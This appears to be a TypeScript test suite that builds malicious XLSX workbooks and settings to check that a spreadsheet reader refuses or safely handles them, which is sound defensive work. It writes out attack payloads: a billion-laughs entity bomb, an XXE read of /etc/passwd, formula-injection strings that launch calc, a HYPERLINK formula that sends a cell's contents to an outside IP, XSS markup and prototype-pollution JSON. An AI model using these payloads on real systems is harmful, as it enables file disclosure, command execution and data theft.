import { editFile } from "../support/edit-file";
import { buildStyles, zipParts } from "../support/xlsx-builder";
import { type Attack, PLAIN_ROWS, plainParts, SHEET, writeRows } from "./attack";
import { buildRawZip, honestly } from "./raw-zip";

const many = (count: number, write: (i: number) => string): string => Array.from({ length: count }, (_, i) => write(i)).join("");
const rows = writeRows(PLAIN_ROWS);
const pack = (parts: { readonly [name: string]: string | Uint8Array }): Uint8Array => buildRawZip(honestly(parts));
const sheet = (changed: Parameters<typeof plainParts>[0], more: Parameters<typeof plainParts>[1] = {}): Uint8Array => pack(plainParts(changed, more));
const inSheet = (from: string, to: string): Uint8Array => {
  const parts = plainParts();
  return pack({ ...parts, [SHEET]: (parts[SHEET] as string).replace(from, () => to) });
};
const LAUGHS = many(9, (i) => `<!ENTITY l${i + 1} "${`&l${i};`.repeat(10)}">`);

/** XMLへの攻撃 — what the XML of a sheet can hold. */
export const xmlAttacks: readonly Attack[] = [
  {
    name: "entities within entities, 10⁹ laughs",
    make: () => inSheet("<worksheet", `<!DOCTYPE w [<!ENTITY l0 "lol">${LAUGHS}]><worksheet`),
    expected: "refused",
  },
  {
    name: "an entity that reads a file of this computer",
    make: () => inSheet("<worksheet", '<!DOCTYPE w [<!ENTITY x SYSTEM "file:///etc/passwd">]><worksheet'),
    expected: "refused",
  },
  { name: "elements 100,000 deep", make: () => sheet({ tail: `${"<a>".repeat(100_000)}${"</a>".repeat(100_000)}` }), expected: "read" },
  { name: "elements 100,000 deep in a text", make: () => sheet({}, { sharedStrings: `<si>${"<r>".repeat(100_000)}<t>x</t>${"</r>".repeat(100_000)}</si>` }), expected: "read" },
  { name: "elements that are never closed, a million", make: () => sheet({ tail: "<a>".repeat(1_000_000) }), expected: "refused" },
  { name: "a million attributes in one element", make: () => sheet({ rows: rows.replace("<row ", `<row ${many(1_000_000, (i) => `a${i}="" `)}`) }), expected: "read" },
  { name: "a million comments, the last not closed", make: () => sheet({ tail: `${"<!---->".repeat(1_000_000)}<!--` }), expected: "refused" },
  { name: "five million character references in a text", make: () => sheet({}, { sharedStrings: `<si><t>${"&#65;".repeat(5_000_000)}</t></si>` }), expected: "refused" },
];

/** 大きさの攻撃 — what a sheet can claim to be, or be. */
export const sizeAttacks: readonly Attack[] = [
  { name: "a million declared rows", make: () => sheet({ rows: `${rows}${many(1_000_000, (i) => `<row r="${i + 7}" ht="12"/>`)}` }), expected: "read" },
  {
    name: "an area of A1:XFD1048576, and a cell in its last corner",
    make: () => sheet({ head: '<dimension ref="A1:XFD1048576"/>', rows: `${rows}<row r="1048576"><c r="XFD1048576"><v>1</v></c></row>` }),
    expected: "read",
  },
  { name: "a merge over the whole sheet", make: () => sheet({ rows: `${rows}`, tail: '<mergeCells><mergeCell ref="A20:XFD1048576"/></mergeCells>' }), expected: "either" },
  {
    name: "100,000 merges over each other",
    make: () => sheet({ tail: `<mergeCells>${many(100_000, (i) => `<mergeCell ref="A20:Z${i + 21}"/>`)}</mergeCells>` }),
    expected: "either",
  },
  { name: "200,000 times all columns hidden", make: () => sheet({ head: `<cols>${'<col min="1" max="16384" hidden="1"/>'.repeat(200_000)}</cols>` }), expected: "read" },
  {
    name: "100,000 conditional formats over all cells",
    make: () =>
      sheet({
        tail: many(
          100_000,
          (i) => `<conditionalFormatting sqref="A1:XFD1048576"><cfRule type="expression" priority="${i + 1}"><formula>1</formula></cfRule></conditionalFormatting>`,
        ),
      }),
    expected: "read",
  },
  { name: "one text of 50 MB", make: () => sheet({}, { sharedStrings: `<si><t>${"年度".repeat(12_500_000)}</t></si>` }), expected: "refused" },
  {
    name: "one text of 32,000 characters in 20,000 cells",
    make: () =>
      sheet(
        { rows: `${rows}${many(20_000, (i) => `<row r="${i + 9}"><c r="A${i + 9}" t="s"><v>0</v></c><c r="B${i + 9}"><v>${i}</v></c></row>`)}` },
        { sharedStrings: `<si><t>${"令和3年度～".repeat(4_600)}</t></si>` },
      ),
    expected: "either",
  },
  {
    name: "a shared formula of 8,000 characters with 200,000 followers",
    make: () =>
      sheet({
        rows: `${rows}<row r="9"><c r="A9"><f t="shared" ref="A9:A200008" si="0">${"A1+".repeat(2_700)}1</f><v>1</v></c></row>${many(200_000, (i) => `<row r="${i + 10}"><c r="A${i + 10}"><f t="shared" si="0"/><v>1</v></c></row>`)}`,
      }),
    expected: "either",
  },
  {
    name: "number formats of 100 kB",
    make: () => sheet({ rows: rows.replace(/<c r="/g, '<c s="1" r="') }, { styles: buildStyles([0, '[$-411]ggge"年";'.repeat(7_000)]) }),
    expected: "either",
  },
  { name: "10,000 sheets", make: () => zipParts(tenThousandSheets()), expected: "read" },
  {
    name: "10,000 findings",
    make: () =>
      sheet({
        rows: writeRows([
          ["男性の育児休業の取得状況"],
          ["所属", "対象者数", "取得者数", "取得率"],
          ...Array.from({ length: 15_000 }, (_, i) => (i % 3 < 2 ? [`第${i + 1}課`, 10, 15 + (i % 7), (15 + (i % 7)) / 10] : [`第${i + 1}課`, 10, 5, 0.5])),
        ]),
      }),
    expected: "read",
  },
  { name: "a cell outside the sheet", make: () => inSheet('r="A1"', 'r="XFE1048577"'), expected: "refused" },
];

function tenThousandSheets(): { [name: string]: string | Uint8Array } {
  const parts = plainParts();
  const small = plainParts({
    rows: writeRows([
      ["令和6年度", "備考"],
      ["男性職員数", 12],
    ]),
  })[SHEET]!;
  const entry = /<sheet name="実績"[^>]*>/.exec(parts["xl/workbook.xml"] as string)![0];
  const relation = /<Relationship Id="rId1"[^>]*>/.exec(parts["xl/_rels/workbook.xml.rels"] as string)![0];
  const override = /<Override PartName="\/xl\/worksheets\/sheet1.xml"[^>]*>/.exec(parts["[Content_Types].xml"] as string)![0];
  const more = (piece: string, change: (text: string, i: number) => string): string => `${piece}${many(9_999, (i) => change(piece, i + 2))}`;
  return {
    ...parts,
    ...Object.fromEntries(Array.from({ length: 9_999 }, (_, i) => [`xl/worksheets/sheet${i + 2}.xml`, small])),
    "xl/workbook.xml": (parts["xl/workbook.xml"] as string).replace(
      entry,
      more(entry, (text, i) => text.replace("実績", `実績${i}`).replace('"1"', `"${i}"`).replace("rId1", `rIdS${i}`)),
    ),
    "xl/_rels/workbook.xml.rels": (parts["xl/_rels/workbook.xml.rels"] as string).replace(
      relation,
      more(relation, (text, i) => text.replace("rId1", `rIdS${i}`).replace("sheet1", `sheet${i}`)),
    ),
    "[Content_Types].xml": (parts["[Content_Types].xml"] as string).replace(
      override,
      more(override, (text, i) => text.replace("sheet1", `sheet${i}`)),
    ),
  };
}

/** Texts a spreadsheet would execute if they were written as formulas, or opened from a CSV as such. */
export const EXECUTABLE = [
  "=cmd|' /C calc'!A0",
  '=HYPERLINK("http://192.0.2.1/?"&A1,"見る")',
  "+cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  "\t=1+1",
  '＝IMPORTXML("http://192.0.2.1")',
];
const MARKUP = ["<img src=x onerror=alert(1)>", "<script>alert(1)</script>", "]]><c/>", "&lt;b&gt;", "\"'><svg/onload=alert(1)>", "_x003C_b_x003E_", "\u202e=1+1\u0000"];

/** 言葉の攻撃 — texts that would be executed as formulas, or shown as markup, and settings that mean something else. */
export const textAttacks: readonly Attack[] = [
  ...[...EXECUTABLE, ...MARKUP].map((text): Attack => ({
    name: `the text \`${text.replace(/[\t\u0000\u202e]/g, "␣")}\` as a label, a figure, a unit and the name of a table`,
    make: () => sheet({ rows: writeRows(spoken(clean(text))) }),
    expected: "read",
  })),
  { name: "a sheet that is called `=cmd|calc!A0`", make: () => pack(plainParts({ name: "=cmd|calc!A0" })), expected: "read" },
];

const clean = (text: string): string => text.replace(/\u0000/g, "");

function spoken(text: string): (string | number)[][] {
  return [
    [`${text} 特定事業主行動計画 令和3年度～令和7年度`],
    [text],
    [`男性の育児休業取得率（目標：令和7年度までに50%以上）`, "", "", text],
    ["区分", "令和4年度", "令和5年度", "令和6年度", "備考"],
    [`${text}`, 3, 4, 5, text],
    ["対象者数（人）", 10, 20, 20, text],
    ["取得者数（人）", 4, 6, 12, text],
    ["取得率", 0.4, 0.3],
    [`${text}課 取得率`, text, 0.3, "12%"],
  ];
}

const kept = (text: string): Uint8Array => editFile(pack(plainParts()), [{ kind: "set-own-data", text }]).after.zip.bytes;
const plain = (): Uint8Array => pack(plainParts());
const deep = `${"[".repeat(100_000)}${"]".repeat(100_000)}`;

/** 設定への攻撃 — settings given, or kept in the workbook, that are malformed, newer or poisoned. */
export const settingAttacks: readonly Attack[] = [
  { name: "settings that are no JSON", make: plain, profile: '{"schema":1,', expected: "refused" },
  { name: "settings of a newer version", make: plain, profile: '{"schema":99}', expected: "refused" },
  { name: "settings with `__proto__`", make: plain, profile: '{"schema":1,"__proto__":{"polluted":true}}', expected: "refused" },
  { name: "settings with `constructor`", make: plain, profile: '{"schema":1,"constructor":{"prototype":{"polluted":true}}}', expected: "refused" },
  { name: "settings whose checks are called `__proto__`", make: plain, profile: '{"schema":1,"checks":{"__proto__":false,"constructor":true}}', expected: "either" },
  { name: "settings with lists 100,000 deep", make: plain, profile: `{"schema":1,"indicators":${deep}}`, expected: "refused" },
  { name: "settings of 20 MB", make: plain, profile: JSON.stringify({ schema: 1, managerGrades: Array.from({ length: 1_000_000 }, (_, i) => `級職${i}`) }), expected: "either" },
  { name: "kept settings that are no JSON", make: () => kept('{"schema":1,'), expected: "read" },
  { name: "kept settings of a newer version", make: () => kept('{"schema":99,"profile":{"schema":99}}'), expected: "read" },
  { name: "kept settings with `__proto__`", make: () => kept('{"schema":1,"__proto__":{"x":1},"profile":{"schema":1,"__proto__":{"hoursPerDay":-1}}}'), expected: "read" },
  { name: "kept settings with lists 100,000 deep", make: () => kept(`{"schema":1,"later":${deep},"profile":{"schema":1}}`), expected: "read" },
  {
    name: "a kept journal that is none",
    make: () => kept('{"schema":1,"journal":[null,{"undo":[{"kind":"set-cell"}]},7],"past":{"lines":"x"},"remembered":[1]}'),
    expected: "read",
  },
];
